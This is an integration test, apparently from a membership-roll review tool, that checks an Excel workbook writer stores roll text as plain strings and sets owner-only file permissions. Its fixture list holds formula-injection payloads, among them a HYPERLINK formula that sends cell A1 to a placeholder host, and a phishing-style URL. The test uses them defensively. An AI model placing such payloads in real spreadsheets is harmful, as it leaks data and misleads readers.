"""The review workbook treats text from the rolls as text: a name that looks like a formula or a URL
is written as a string cell (no formula runs, no link opens in the reader's Excel), and the file is
readable by its owner only."""
import stat
from datetime import date

import openpyxl
import psycopg
import pytest

from lienthong.review.report import Period, Section, Table
from lienthong.review.workbook import write_workbook

pytestmark = pytest.mark.integration

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1, "Bấm vào đây")', "+1+2", "-3+4", "@SUM(1)",
           "=1+1", "http://example.invalid/phish", "mailto:a@example.invalid", "Nguyễn Thị Lan"]
# The four views the workbook reads, to their contract; every text column carries hostile text.
REVIEW_SQL = """
create schema review;
create table review.rpt_member_flags (period_key text, org_code text, commune_name text, unit_name text,
    member_code text, full_name text, flag_label text, rule text, evidence text, since date, flag_kind text,
    suspicion_score numeric, weight numeric);
create table review.rpt_member_suspicion (period_key text, org_code text, commune_name text, unit_name text,
    rank_in_unit int, member_code text, full_name text, suspicion_score numeric, score_weights text, suspected boolean);
create table review.rpt_five_haves_by_unit (period_key text, org_code text, commune_name text, unit_name text,
    roll_records int, people int, has_person int, has_name int, has_unit int, has_dues int, has_attendance int,
    all_five int, flagged_records int);
create table review.rpt_members_by_commune (org_code text, commune_name text, roll_count int,
    distinct_people int, as_of_date date);
"""


def test_text_from_the_rolls_is_written_as_text_never_a_formula_or_link(warehouse_url, tmp_path):
    with psycopg.connect(warehouse_url) as conn:
        conn.execute(REVIEW_SQL)
        for n, text in enumerate(HOSTILE):
            conn.execute("insert into review.rpt_member_flags values ('2026-11', 'org_a', %s, %s, %s, %s, %s,"
                         " %s, %s, '2026-11-01', 'k', 0.9, 1.5)", (text, text, f"M{n}", text, text, text, text))
            conn.execute("insert into review.rpt_member_suspicion values ('2026-11', 'org_a', %s, %s, 1, %s, %s,"
                         " 0.9, %s, true)", (text, text, f"M{n}", text, text))
            conn.execute("insert into review.rpt_five_haves_by_unit values ('2026-11', 'org_a', %s, %s,"
                         " 1, 1, 1, 1, 1, 1, 1, 1, 0)", (text, text))
            conn.execute("insert into review.rpt_members_by_commune values ('org_a', %s, 1, 1, '2026-11-30')",
                         (text,))
        period = Period("2026-11", "month", date(2026, 11, 1), date(2026, 11, 30))
        sections = [Section("units", "Đơn vị", table=Table(["Đơn vị", "Số"], [[text, 1] for text in HOSTILE]))]
        path = write_workbook(conn, period, sections, {"org_a": "=HYPERLINK(\"http://x\")"}, tmp_path / "b.xlsx")

    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    book = openpyxl.load_workbook(path)
    seen = set()
    for sheet in book.worksheets:
        assert not sheet._hyperlinks, sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert set(HOSTILE) <= seen  # written verbatim, as strings
    assert len(book.worksheets) == 5
